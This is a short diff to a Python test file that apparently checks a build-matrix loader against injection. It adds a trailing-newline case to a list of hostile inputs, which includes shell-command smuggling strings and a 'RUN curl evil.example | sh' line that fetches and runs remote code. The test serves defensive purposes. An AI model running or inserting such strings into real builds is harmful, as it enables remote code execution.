@@ -16,7 +16,8 @@ from builder.errors import MatrixError
 from builder.matrix import load_matrix
 from tests.matrix_samples import DLC, NVIDIA, SOURCE, dump, matrix
 
-PAYLOADS = ["; touch /tmp/pwned #", "$(id)`id`", "\nRUN curl evil.example | sh", "' \" \\"]
+# The last one: a bare trailing newline, which a regex ending in `$` lets through.
+PAYLOADS = ["; touch /tmp/pwned #", "$(id)`id`", "\nRUN curl evil.example | sh", "' \" \\", "\n"]
 
 
 def _valid(tmp_path):
